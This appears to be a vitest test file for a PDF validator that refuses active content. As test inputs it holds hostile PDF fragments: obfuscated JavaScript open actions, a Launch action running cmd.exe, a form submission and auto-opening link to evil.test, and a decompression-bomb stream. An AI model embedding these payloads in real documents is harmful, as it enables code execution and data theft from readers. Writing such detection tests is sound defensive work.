import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { checkPdf } from './check-pdf.ts'

const catalog = (own = '') => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${own} >>\nendobj\n`
const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts.map((part) => Buffer.from(part as string, 'latin1')), Buffer.from('\n%%EOF\n')])
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`9 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream\nendobj\n')])
const objects = (text: string, type = '/ObjStm') =>
  stream(`/Type ${type} /N 1 /First 4 /Filter /FlateDecode`, deflateSync(Buffer.from(`3 0 ${text}`, 'latin1')))
const refused = (why: string) => expect.objectContaining({ kind: 'invalid', code: 'files.pdf', detail: { why } })

describe('a PDF', () => {
  it.each([
    ['a script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['a script of a rendition', '/AA << /O << /S /Rendition /JS (x()) >> >>'],
    ['a script in hexadecimal', '/AA << /O << /S /Rendition /JS <6170702e> >> >>'],
    ['a script in UTF-16', '/AA << /O << /S /Rendition /JS (\u00fe\u00ff\0a) >> >>'],
    ['a script elsewhere', '/AA << /O << /S /Rendition /JS%\n7 0 R >> >>'],
    ['a name in escapes', '/AA << /O << /S /#4aava#53cript /#4A#53 7 0 R >> >>'],
    ['a program', '/AA << /O << /S /Launch /F (cmd.exe) >> >>'],
    ['a program in escapes', '/AA << /O << /S /L#61unch>> >>'],
    ['another file', '/Names << /EmbeddedFiles << /Names [] >> >>'],
    ['another file’s stream', '/X << /Type /EmbeddedFile >>'],
    ['a form of scripts', '/AcroForm << /XFA 7 0 R >>'],
    ['a form that is sent', '/AA << /O << /S /SubmitForm /F (https://evil.test) >> >>'],
    ['an address that opens by itself', '/OpenAction << /Type /Action /S /URI /URI (https://evil.test) >>'],
  ])('with %s is refused, in the body and in a packed object stream', (_name, own) => {
    expect(() => checkPdf(pdf(catalog(own)))).toThrow(refused('active'))
    expect(() => checkPdf(pdf(catalog(), objects(`<< ${own} >>`)))).toThrow(refused('active'))
    expect(() => checkPdf(pdf(catalog(), objects(`<< ${own} >>`, '/#4fbj#53tm')))).toThrow(refused('active'))
  })

  it('whose action on opening is elsewhere is refused for what that does', () => {
    const file = (type: string) => pdf(catalog('/OpenAction 7 0 R'), `7 0 obj\n<< /S /${type} /D [3 0 R /Fit] >>\nendobj\n`)
    expect(() => checkPdf(file('URI'))).toThrow(refused('active'))
    expect(() => checkPdf(file('GoTo'))).not.toThrow()
  })

  it.each([
    ['of another filter', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from([128, 11, 96, 80, 34, 12, 12, 133, 1]))],
    ['encrypted', stream('/Type /ObjStm /Filter /FlateDecode', Buffer.alloc(64, 0xa5))],
    ['broken after its beginning', stream('/Type /ObjStm /Filter /FlateDecode', deflateSync('3 0 << /Type /Page >>').subarray(0, -8))],
    ['of gigabytes', stream('/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.concat([Buffer.from('3 0 '), Buffer.alloc(40 * 2 ** 20, 32)])))],
  ])('with an object stream that cannot be searched (%s) is refused', (_name, unreadable) => {
    expect(() => checkPdf(pdf(catalog(), unreadable))).toThrow(refused('unreadable'))
  })

  it.each([
    ['a page and a jump', pdf(catalog('/OpenAction [3 0 R /FitH 700] /Lang (en)'))],
    ['a jump as an action', pdf(catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'))],
    ['names that only begin alike', pdf(catalog('/JSON 1 /Launcher 2 /JavaScripts 3 /OpenActions << /S /URI >>'))],
    ['links that are clicked', pdf(catalog(), '4 0 obj << /Subtype /Link /A << /S /URI /URI (https://example.com) >> >> endobj')],
    ['a packed page', pdf(catalog(), stream('/Filter /FlateDecode', deflateSync('1 0 0 1 72 720 cm BT (JavaScript and /JS) Tj ET')))],
    ['packed objects', pdf(catalog(), objects('<< /Type /Page /Parent 2 0 R >>'))],
    ['objects that are not packed', pdf(catalog(), stream('/Type /ObjStm /N 1 /First 4', Buffer.from('3 0 << /Type /Page >>')))],
  ])('with %s is accepted', (_name, file) => {
    expect(() => checkPdf(file)).not.toThrow()
  })

  it('with a large photograph is accepted, whatever its bytes are', () => {
    const noise = createHash('shake256', { outputLength: 2 ** 20 })
      .update('noise')
      .digest()
    expect(() => checkPdf(pdf(catalog(), stream('/Filter /DCTDecode', noise), stream('/Filter /FlateDecode', deflateSync(noise))))).not.toThrow()
  })
})
